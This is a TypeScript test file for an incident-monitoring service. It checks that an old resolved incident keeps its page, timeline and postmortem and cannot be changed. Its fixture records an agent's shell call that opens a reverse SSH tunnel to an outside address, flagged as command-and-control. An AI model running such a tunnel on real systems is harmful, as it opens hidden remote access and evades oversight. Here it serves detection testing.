// given more incidents that are over than memory keeps, when somebody opens an old one, then its page, its timeline and its postmortem are as the
// log had them when it was last changed, and nothing of it can be changed.
import { randomUUID } from 'node:crypto'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { parseConfig } from './config.ts'
import { incidentBounds } from './model/incident-state.ts'
import { openStore } from './open-store.ts'
import { createPipeline } from './pipeline.ts'
import type { EventInput } from './protocol/event.ts'
import { type EventId, SessionId } from './protocol/ids.ts'
import { IncidentDetail, type IncidentId, IncidentList, incidentIdOf } from './protocol/incident.ts'
import { IncidentTimeline } from './protocol/incident-timeline.ts'
import { Postmortem } from './protocol/postmortem.ts'
import { startForTest, type TestServer } from './start-for-test.ts'
import { type EmbeddedPostgres, startEmbeddedPostgres } from './store/embedded-postgres.ts'

const by = { type: 'operator' as const, id: 'u', name: 'eve' }
const session = SessionId.parse('ep-old')
const old = incidentIdOf(1)
let folder: string
let database: EmbeddedPostgres
let server: TestServer

const base = () => ({ v: 1 as const, atMs: Date.now() })
const changed = (incident: IncidentId, change: object): EventInput =>
  ({ ...base(), kind: 'incident.changed', data: { incident, by, change } }) as EventInput
const opened = (incident: IncidentId): EventInput => ({
  ...base(),
  kind: 'incident.opened',
  data: { incident, because: 'a flag that pages', isDrill: false },
})

/** As a server would have written it, without one. */
async function write(dataDir: string): Promise<void> {
  const env = { DATABASE_URL: database.connectionString, VIGIL_DATA: dataDir }
  const store = await openStore(parseConfig(env), path.resolve(import.meta.dirname, '..'), () => undefined)
  const pipeline = createPipeline({
    log: store.log,
    state: store.state,
    streams: store.streams,
    nowMs: () => Date.now(),
    newEventId: () => randomUUID() as EventId,
    onError: (context, error) => {
      throw new Error(`${context}: ${error}`)
    },
  })
  const flag = {
    incident: old,
    because: 'it pages',
    flag: randomUUID(),
    rule: 'tunnel',
    title: 'Reverse SSH tunnel',
    severity: 'high',
    session,
    destinations: ['203.0.113.40'],
    techniques: ['T1572'],
    tactics: ['command-and-control'],
    source: 'command',
    flagAtMs: Date.now(),
    detectedAtMs: Date.now(),
  }
  const story: EventInput[] = [
    { ...base(), kind: 'session.started', session, data: { held: 'none', abilities: [] } },
    {
      ...base(),
      kind: 'action.started',
      session,
      data: { call: 'c1', tool: 'shell', input: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' },
    },
    opened(old),
    { ...base(), kind: 'incident.joined', data: flag } as unknown as EventInput,
    // A NUL in what somebody wrote: it must not hinder that its incident is found.
    changed(old, { type: 'note', text: 'the far end\u0000 is a VPS' }),
    changed(old, { type: 'write', section: 'causes', text: 'Nobody gated ssh.', basedOn: 0 }),
    changed(old, { type: 'resolve', verdict: 'true' }),
  ]
  const others = Array.from({ length: incidentBounds.resolved + 1 }, (_, n) => incidentIdOf(n + 2)).flatMap((id) => [
    opened(id),
    changed(id, { type: 'resolve', verdict: 'false' }),
  ])
  const sender = { type: 'vigil' as const }
  expect((await pipeline.submit({ sender, events: story, trust: 'vigil' })).rejected).toEqual([])
  await new Promise((resolve) => setTimeout(resolve, 5))
  expect((await pipeline.submit({ sender, events: others, trust: 'vigil' })).rejected).toEqual([])
  await pipeline.close()
  await store.close()
}

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'vigil-old-incident-'))
  database = await startEmbeddedPostgres({ dataDir: path.join(folder, 'postgres') })
  await write(path.join(folder, 'data'))
  server = await startForTest({ DATABASE_URL: database.connectionString })
}, 90_000)
afterAll(async () => {
  await server.stop()
  await database.stop()
  await rm(folder, { recursive: true, force: true })
})

const ask = async (pathname: string) => await (await server.api(pathname)).json()

it('is not in the list any more, and its page is what the log had of it', async () => {
  const { incidents } = IncidentList.parse(await ask('/api/incidents?limit=1000'))
  expect(incidents.length).toBeLessThanOrEqual(incidentBounds.resolved + 1)
  expect(incidents.some(({ incident }) => incident === old)).toBe(false)
  expect(IncidentDetail.parse(await ask(`/api/incidents/${old}`))).toMatchObject({
    incident: old,
    status: 'resolved',
    title: 'Reverse SSH tunnel by ep-old',
    sessions: [session],
    flagCount: 1,
    asLastKnownAtMs: expect.any(Number),
    log: [{ change: { type: 'note' } }, { change: { type: 'write' } }, { change: { type: 'resolve' } }],
  })
})

it('has its timeline, its table and its postmortem', async () => {
  const { items } = IncidentTimeline.parse(await ask(`/api/incidents/${old}/timeline`))
  expect(items.some(({ label }) => label.includes('ssh -fN'))).toBe(true)
  const { written } = Postmortem.parse(await ask(`/api/incidents/${old}/postmortem`))
  expect(written).toMatchObject([{ section: 'causes', text: 'Nobody gated ssh.' }])
  const text = await (await server.api(`/api/incidents/${old}/postmortem.md`)).text()
  expect(text).toContain('Reverse SSH tunnel')
})

it('cannot be changed, and one that never was is not found', async () => {
  const note = (id: string) =>
    server.api(`/api/incidents/${id}/changes`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ type: 'note', text: 'late' }),
    })
  expect((await note(old)).status).toBe(404)
  expect((await server.api('/api/incidents/INC-99999')).status).toBe(404)
})
